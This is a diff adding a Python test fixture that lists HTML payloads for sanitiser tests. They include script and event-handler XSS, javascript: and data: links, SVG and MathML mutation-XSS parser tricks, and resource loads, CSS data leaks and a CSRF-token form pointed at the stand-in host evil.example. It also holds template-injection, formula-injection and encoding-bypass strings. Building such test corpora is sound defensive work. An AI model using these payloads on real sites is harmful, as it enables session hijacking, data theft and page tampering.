@@ -1,0 +1,162 @@
+"""Markup that wants to run, to load, to lead away or to lie: it says `pwned` or asks `evil.example`.
+
+Written for these tests, in the shapes that sanitisers have failed on.
+"""
+# ruff: noqa: E501 - an attack is easier to read in one piece
+
+RUN = "parent.pwned&&parent.pwned(1);window.__pwned=1"
+EVIL = "https://evil.example"
+
+SCRIPTS = [
+    f"<script>{RUN}</script>",
+    f"<ScRiPt\n>{RUN}</sCrIpT\t>",
+    f'<script src="{EVIL}/a.js"></script>',
+    f'<script src="data:text/javascript,{RUN}"></script>',
+    f"<script type=module>import('{EVIL}/m.js')</script>",
+    f"<scr\x00ipt>{RUN}</script>",
+    f"<scr<script>x</script>ipt>{RUN}</script>",
+    f"<<script>{RUN}//<</script>",
+    f"<script>{RUN}",
+    f"</title></textarea></style></script><script>{RUN}</script>",
+    f"<template><script>{RUN}</script></template>",
+    f"<noscript><script>{RUN}</script></noscript>",
+]
+EVENTS = [
+    f'<img src=x onerror="{RUN}">',
+    f"<img/src=x/onerror={RUN}>",
+    f'<img src=x: oNeRrOr\n=\n"{RUN}">',
+    f"<svg onload={RUN}>",
+    f"<svg/onload={RUN}//",
+    f"<body onload={RUN} onpageshow={RUN} onfocus={RUN}>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<select autofocus onfocus={RUN}>",
+    f"<textarea autofocus onfocus={RUN}></textarea>",
+    f"<div contenteditable tabindex=0 autofocus onfocus={RUN}>x</div>",
+    f"<video onerror={RUN}><source></video>",
+    f"<audio src=x onerror={RUN}>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<p style=animation:spin onanimationstart={RUN}>x</p>",
+    f"<style>@keyframes z{{}}</style><b style=animation-name:z onanimationend={RUN}>x</b>",
+    f"<x onpointerrawupdate={RUN} onclick={RUN}>click</x>",
+    f"<button popovertarget=p>x</button><div id=p popover onbeforetoggle={RUN}>y</div>",
+    f'<b a="" onclick={RUN} a="">click</b>',
+    f"<p `onclick={RUN}`>click</p>",
+]
+SCHEMES = [
+    f'<a href="javascript:{RUN}">script</a>',
+    f'<a href="\x01\x02 java\nscr\tipt:{RUN}">script with gaps</a>',
+    f'<a href="&#1;&#x6A;avascript&colon;{RUN}">script in entities</a>',
+    f'<a href="javascript&NewLine;:{RUN}">script with a new line</a>',
+    f'<a href="javascript://evil.example/%0a{RUN}">script in an address</a>',
+    '<a href="vbscript:MsgBox(1)">basic</a>',
+    f'<a href="data:text/html,<script>{RUN}</script>">data</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQoMSk8L3NjcmlwdD4=">in base64</a>',
+    '<a href="blob:https://evil.example/1">blob</a>',
+    '<a href="file:///etc/passwd">file</a>',
+    '<a href="intent://x#Intent;scheme=javascript;end">intent</a>',
+    '<a href="view-source:https://evil.example/">source</a>',
+    f'<a href="{EVIL}/" target=_top rel=opener ping="{EVIL}/ping" download onclick="{RUN}">web</a>',
+    '<a href="//evil.example/">no scheme</a>',
+    '<a href="/admin/logout/">here</a>',
+    '<a href="/accounts/logout/" hx-post="/accounts/logout/" hx-trigger=load>here with htmx</a>',
+    '<a href="http://user:pass@evil.example:80/x">with a password</a>',
+    '<a href="mailto:a@b.example?subject=x&attach=/etc/passwd">mail</a>',
+    f'<area href="javascript:{RUN}"><map name=m><area shape=default href="javascript:{RUN}"></map>',
+    f'<form action="javascript:{RUN}"><button>go</button></form>',
+    f'<button form=f formaction="javascript:{RUN}">go</button><form id=f></form>',
+    f'<isindex action="javascript:{RUN}" type=image>',
+]
+FOREIGN = [
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
+    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>click</text></a></svg>',
+    f'<svg><animate xlink:href=#l attributeName=href values="javascript:{RUN}"/><a id=l><text>x</text></a></svg>',
+    f"<svg><set attributeName=onmouseover to={RUN}>",
+    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
+    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
+    f'<svg><image href="{EVIL}/i.png"/><feImage href="{EVIL}/f.png"/></svg>',
+    f"<math><mi xlink:href='javascript:{RUN}'>click</mi></math>",
+    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
+    # What a sanitiser reads as one tree and the page, parsed a second time, as another.
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
+    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<svg><desc><noscript></desc><img title='</noscript><img src onerror={RUN}>'>",
+    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
+    f"<iframe><p title='</iframe><img src=x onerror={RUN}>'>",
+    f"<select><style></select><img src=x onerror={RUN}></style>",
+    f"<table><td><svg><title><table><style></title><img src onerror={RUN}>",
+    f"<p id='&quot;&gt;&lt;img src=x onerror={RUN}&gt;' title=\"'><img src=x onerror={RUN}>\">x",
+    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
+    f"<div><![CDATA[<img src=x onerror={RUN}>]]></div><svg><![CDATA[</svg><img src=x onerror={RUN}>]]>",
+    "<b>" * 600 + f"<math><mtext><img src=x onerror={RUN}>",
+]
+LOADS = [
+    f'<img src="{EVIL}/pixel.gif" width=1 height=1>',
+    '<img src="cid:part1@mail.example"><img src="/accounts/logout/"><img src="/static/cabinet/icon.svg">',
+    f'<img srcset="{EVIL}/1 1x, {EVIL}/2 2x"><picture><source srcset="{EVIL}/3"><img></picture>',
+    f'<video src="{EVIL}/v" poster="{EVIL}/p"><track src="{EVIL}/t"></video><audio src="{EVIL}/a"></audio>',
+    f'<iframe src="{EVIL}/f"></iframe><frame src="{EVIL}/g"><iframe srcdoc="<img src={EVIL}/h>"></iframe>',
+    f'<object data="{EVIL}/o"><param name=src value="{EVIL}/q"></object><embed src="{EVIL}/e"><applet code=x>',
+    f'<link rel=stylesheet href="{EVIL}/l.css"><link rel=prefetch href="{EVIL}/n"><link rel=preconnect href={EVIL}>',
+    f'<style>@import "{EVIL}/s.css"; @font-face{{font-family:x;src:url({EVIL}/x.woff)}} *{{font-family:x}}</style>',
+    f"<style>body{{background:url({EVIL}/b)}} input[value^=a]{{background:url({EVIL}/k)}}</style>",
+    f'<div style="background:url({EVIL}/d);list-style:url({EVIL}/u);content:url({EVIL}/c)">x</div>',
+    f'<p style="behavior:url({EVIL}/h.htc);-moz-binding:url({EVIL}/m.xml);width:expression({RUN})">x</p>',
+    f'<table background="{EVIL}/t"><tr background="{EVIL}/r"><td background="{EVIL}/z">x</table>',
+    f'<input type=image src="{EVIL}/i"><bgsound src="{EVIL}/s"><body background="{EVIL}/w">',
+    f'<meta http-equiv=refresh content="0;url={EVIL}/"><meta http-equiv=refresh content="0;/accounts/logout/">',
+    f'<base href="{EVIL}/"><a href=x>based</a>',
+    '<meta http-equiv=Content-Security-Policy content="default-src *"><meta http-equiv=set-cookie content=x=y>',
+    f'<form action="{EVIL}/" id=x><input name=csrfmiddlewaretoken></form><input form=x type=submit autofocus>',
+    '<div hx-get="/cases/" hx-trigger="load" data-hx-post="/accounts/logout/" data-hx-trigger="load">x</div>',
+    f"<div hx-on:load='{RUN}' hx-on::load='{RUN}' data-hx-on-load='{RUN}' hx-vals='js:{{x:{RUN}}}'>x</div>",
+    '<div id=live data-live="https://evil.example/" data-mark=x data-reload></div>',
+    '<p id=quiet-notice data-sign-in="<b>x">x</p><ol id=thread><li id=m-none>x</li></ol><form data-send-once></form>',
+    "<a id=htmx name=htmx></a><form id=document name=cookie><input name=querySelector></form>",
+    f'<portal src="{EVIL}/"></portal><fencedframe src="{EVIL}/x"></fencedframe><keygen><dialog open>x</dialog>',
+    f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{EVIL}/"]}}]}}</script>',
+]
+BROKEN = [
+    f"<!--><img src=x onerror={RUN}>-->",
+    f"<!---!><img src=x onerror={RUN}>-->",
+    f"<!-- --!><img src=x onerror={RUN}>",
+    "<!-- never closed <p>all of the page would vanish",
+    "</div></article></li></ol></main></body></html>outside",
+    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">over everything</div>',
+    f"<plaintext><img src=x onerror={RUN}>",
+    f"<a href='https://ok.example/' title='&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;'>ok</a>",
+    f'https://ok.example/"onmouseover="{RUN} https://ok.example/<script>{RUN}</script>',
+    f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '{EVIL}/'>]><x>&e;</x>",
+]
+MARKUP = [*SCRIPTS, *EVENTS, *SCHEMES, *FOREIGN, *LOADS, *BROKEN]
+
+WORDS = [
+    *(
+        f"<script>{RUN}</script>",
+        f'"><img src=x onerror={RUN}>',
+        f"'><svg onload={RUN}>",
+        f"</title><script>{RUN}",
+    ),
+    *(
+        f"javascript:{RUN}",
+        "{{ 7|add:7 }}{% load static %}${7*7}#{7*7}<%= 7*7 %>",
+        "&lt;script&gt;1&lt;/script&gt;",
+    ),
+    *(
+        f"` onclick={RUN} x=`",
+        f"--><script>{RUN}</script>",
+        f"]]><img src=x onerror={RUN}>",
+        "\u202eevil\u202c <b>",
+    ),
+    *(
+        f"{EVIL}/?<script>{RUN}</script>",
+        "%3Cscript%3E",
+        "\\u003cscript\\u003e",
+        "=HYPERLINK(1)",
+        "+ADw-script+AD4-",
+    ),
+]
+"""For places that hold plain words: subjects, names, file names."""
